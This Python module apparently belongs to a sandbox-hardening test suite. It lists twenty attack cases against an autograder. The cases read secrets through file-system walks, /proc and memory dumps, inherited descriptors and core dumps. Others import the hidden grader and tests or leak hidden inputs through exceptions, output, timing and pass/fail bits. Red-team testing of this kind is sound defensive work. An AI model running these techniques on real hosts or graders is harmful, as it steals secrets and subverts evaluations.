"""A. Reading secrets."""

from __future__ import annotations

from .attack import LEAK, SEEK, Attack

A = [
    Attack(
        "A1",
        "walk the file system for tests, answers, other work",
        "secret",
        SEEK
        + """
end = time.time() + 0.8
skip = ("/usr/lib", "/usr/share", "/usr/bin", "/usr/include", "/box/env/lib", "/root/.pyenv/versions/3.11.7/lib")
for folder, _, files in os.walk("/"):
    if folder.startswith(skip): continue
    for name in files:
        if time.time() > end: break
        path = os.path.join(folder, name)
        if os.path.isfile(path): file(path)
for path in (".", "..", "../..", "/box", "/tmp", "/dev/shm", "/work", "/home"):
    seek(os.listdir(path) if os.path.isdir(path) else "")
""",
    ),
    Attack(
        "A2",
        "walk frames and every object of the heap",
        "secret",
        SEEK
        + """
frame = sys._getframe()
while frame:
    seek(repr(frame.f_locals)[:1 << 20])
    frame = frame.f_back
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple)):
        for part in (list(thing.values()) if isinstance(thing, dict) else thing):
            if isinstance(part, (str, bytes)): seek(part)
""",
        wall=False,
    ),
    Attack(
        "A3",
        "environment, arguments, /proc of everybody",
        "secret",
        SEEK
        + """
seek(os.environ, sys.argv, sys.orig_argv, sys.flags)
for pid in ["self", "thread-self", *map(str, range(1, 400))]:
    for name in ("environ", "cmdline", "maps", "mem", "cwd", "fd"):
        file(f"/proc/{pid}/{name}")
""",
    ),
    Attack(
        "A4",
        "dump the process's own memory by harmless system calls",
        "secret",
        SEEK
        + """
libc = ctypes.CDLL(None)
out = os.open("/tmp/dump", os.O_RDWR | os.O_CREAT | os.O_TRUNC)
base = id(object()) & ~0xFFFFF
for start in range(base - (48 << 20), base + (48 << 20), 1 << 16):
    if libc.write(out, ctypes.c_void_p(start), 1 << 16) > 0:
        os.lseek(out, 0, 0); seek(os.read(out, 1 << 16)); os.lseek(out, 0, 0)
""",
    ),
    Attack(
        "A5",
        "read what inherited descriptors hold",
        "secret",
        SEEK
        + """
for fd in range(1024):
    try: os.set_blocking(fd, False); seek(os.read(fd, 1 << 16))
    except OSError: pass
    try: seek(os.pread(fd, 1 << 20, 0))
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "A6",
        "import the reference, the grader and the hidden tests",
        "points",
        """
import importlib, sys
for place in ("/work/main", "/work", "/box", "..", "/", "/home", "/opt/course"): sys.path.insert(0, place)
for name in ("reference.activations", "reference", "autograder.checks", "test_hidden", "assignments.tiny.test_hidden"):
    try: globals()[name.split(".")[0]] = importlib.import_module(name)
    except ImportError: pass
softmax = sys.modules["reference.activations"].softmax
scale = sys.modules["reference.linear"].scale
""",
    ),
    Attack(
        "A7",
        "leftovers of the submission before: files, shared memory, bytecode",
        "secret",
        SEEK
        + """
for top in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~"), "/box/guest"):
    for folder, _, files in os.walk(top):
        seek(folder, files)
        for name in files: file(os.path.join(folder, name))
""",
    ),
    Attack(
        "A8",
        "carry hidden inputs out in exceptions",
        "secret",
        LEAK
        + """
def softmax(z): raise type(leak(z), (Exception,), {"__module__": leak(z), "__qualname__": leak(z)})(leak(z))
def scale(x, a, b):
    error = KeyError(leak(x)); error.add_note(leak(x)); error.__class__.__name__
    exec(compile("\\n" * int(abs(x[0]) * 1000) + f"raise error", leak(x), "exec"), {"error": error})
""",
        wall=False,
    ),
    Attack(
        "A9",
        "carry hidden inputs out by printing: late, through copies of the pipe, from a thread",
        "secret",
        LEAK
        + """
import os, sys, threading, time
copies = [os.dup(1), os.dup(2)]
seen = []
def later():
    while True:
        time.sleep(0.002)
        for text in list(seen):
            for fd in (1, 2, *copies):
                try: os.write(fd, text.encode())
                except OSError: pass
threading.Thread(target=later, daemon=True).start()
def softmax(z):
    seen.append(leak(z)); print(leak(z), flush=True); sys.__stderr__.write(leak(z)); os.system("echo " + leak(z))
    time.sleep(0.01)
    return z
""",
        wall=False,
    ),
    Attack(
        "A10",
        "carry hidden inputs out by a second load: files, the fault of a cell, the output",
        "secret",
        LEAK
        + """
import os
notes = [p + "/note" for p in ("/tmp", ".", "/dev/shm", "/var/tmp", "..")]
for path in notes:
    if os.path.exists(path): raise ValueError(open(path).read())
def softmax(z):
    for path in notes:
        try: open(path, "w").write(leak(z))
        except OSError: pass
    os._exit(0)
def scale(x, a, b): return softmax(x)
""",
    ),
    Attack(
        "A11",
        "carry hidden inputs out in keys, text and odd types of the answer",
        "secret",
        LEAK
        + """
def softmax(z): return {leak(z): leak(z)}
def scale(x, a, b): return {"y": leak(x), "slope": [leak(x)], leak(x): (leak(x).encode(),)}
""",
        wall=False,
    ),
    Attack(
        "A12",
        "read the source and constants of all that is loaded",
        "secret",
        SEEK
        + """
import inspect, linecache
for name, module in list(sys.modules.items()):
    if name.startswith(("guest", "__main__", "IPython.core")):
        try: seek(inspect.getsource(module))
        except Exception: pass
        for value in vars(module).values():
            code = getattr(value, "__code__", None)
            seek(repr(value)[:10000], code.co_consts if code else "")
seek(linecache.cache)
""",
        wall=False,
    ),
    Attack(
        "A13",
        "use the seed of the box to draw the hidden inputs",
        "points",
        """
import sys, numpy as np
def drawn():
    frame = sys._getframe()
    while frame and "header" not in frame.f_locals: frame = frame.f_back
    return np.random.default_rng(frame.f_locals["header"].get("seed", 0)) if frame else np.random.default_rng(0)
def softmax(z): return drawn().normal(size=np.shape(z))
""",
        wall=False,
    ),
    Attack(
        "A14",
        "its own file, the pages of its memory by /proc/self, and core dumps",
        "secret",
        SEEK
        + """
try: seek(open(__file__, "rb").read())
except (NameError, OSError): pass
try: lines = open("/proc/self/maps").read().splitlines()
except OSError: lines = []
for line in lines:
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    with open("/proc/self/mem", "rb") as memory:
        try: memory.seek(start); seek(memory.read(min(end - start, 1 << 24)))
        except (OSError, ValueError, OverflowError): pass
if os.fork() == 0: os.abort()
time.sleep(0.05)
for folder in (".", "/tmp", "/var/crash", "/var/lib/systemd/coredump", "/cores"):
    if os.path.isdir(folder):
        for name in os.listdir(folder):
            if "core" in name: print("OWNED", "a core dump", name); file(os.path.join(folder, name))
""",
    ),
    Attack(
        "A15",
        "layers of the image, bytecode, pip's cache, histories, a repository in the bundle",
        "secret",
        SEEK
        + """
end = time.time() + 0.8
tops = ("/var/lib/docker", "/var/cache", "/var/log", "/root", os.path.expanduser("~"), "/box", "/opt", "/srv", "/home")
wanted = (".pyc", ".git", ".whl", ".db", ".json", "history", "config", "course.yaml", "test_hidden.py", "wrong.py")
for top in tops:
    for folder, folders, names in os.walk(top):
        if time.time() > end: break
        if folder.startswith("/box/env/lib"): folders.clear(); continue
        if ".git" in folders or "assignments" in folders or ".autograder" in folders: print("OWNED", "found", folder, folders)
        for name in names:
            if name.endswith(wanted): file(os.path.join(folder, name))
""",
    ),
    Attack(
        "A16",
        "modules that a fork may have inherited: the grader, the tests, the reference",
        "secret",
        SEEK
        + """
for name in list(sys.modules):
    if name.split(".")[0] in ("autograder", "reference", "assignments", "test_hidden", "pytest", "docker", "sqlalchemy"):
        print("OWNED", "inherited", name)
for thing in gc.get_objects():
    if getattr(type(thing), "__name__", "") in ("CheckSession", "Secret", "Unit", "Bundle"): print("OWNED", "holds", type(thing))
""",
    ),
    Attack(
        "A17",
        "carry hidden inputs out as pixels: a drawn figure, a picture's line, markers of the data",
        "secret",
        LEAK
        + """
import os
notes = [folder + "/pixels" for folder in ("/tmp", ".", "/dev/shm")]
def old():
    for path in notes:
        if os.path.exists(path): return open(path).read()
    return ""
if old(): print(old())
def scale(x, a, b):
    if old(): return {"y": [ord(c) for c in old()[: len(x)]], "slope": old()}
    return {"y": x, "slope": x}
def softmax(z):
    for path in notes:
        try: open(path, "w").write(leak(z))
        except OSError: pass
    os.abort()
""",
    ),
    Attack(
        "A18",
        "carry hidden inputs out by the run time: a digit is a pause",
        "secret",
        LEAK
        + """
import time
def softmax(z):
    time.sleep(int(abs(np.ravel(z)[0]) * 10) % 10 / 40)
    return z
""",
        wall=False,
    ),
    Attack(
        "A19",
        "pass and fail as bits: the same work again and again, asking a little more of one hidden number",
        "secret",
        LEAK
        + """
def softmax(z): return z if np.ravel(z)[0] > 0 else z + 1
def scale(x, a, b): return {"y": x, "slope": x}
""",
        wall=False,
        attempts=4,
    ),
    Attack(
        "A20",
        "carry hidden inputs out in the kind and the place of an exception: one of many types, one of many lines",
        "secret",
        LEAK
        + """
KINDS = [ValueError, KeyError, TypeError, IndexError, OSError, ArithmeticError, LookupError, EOFError, NameError, MemoryError]
def softmax(z):
    digit = int(abs(np.ravel(z)[0]) * 10) % 10
    exec(compile("\\n" * digit + "raise kind(text)", "cell-" + leak(z), "exec"), {"kind": KINDS[digit], "text": leak(z)})
def scale(x, a, b): raise KINDS[int(abs(x[0]) * 10) % 10](leak(x)) from RuntimeError(leak(x))
""",
        wall=False,
    ),
]
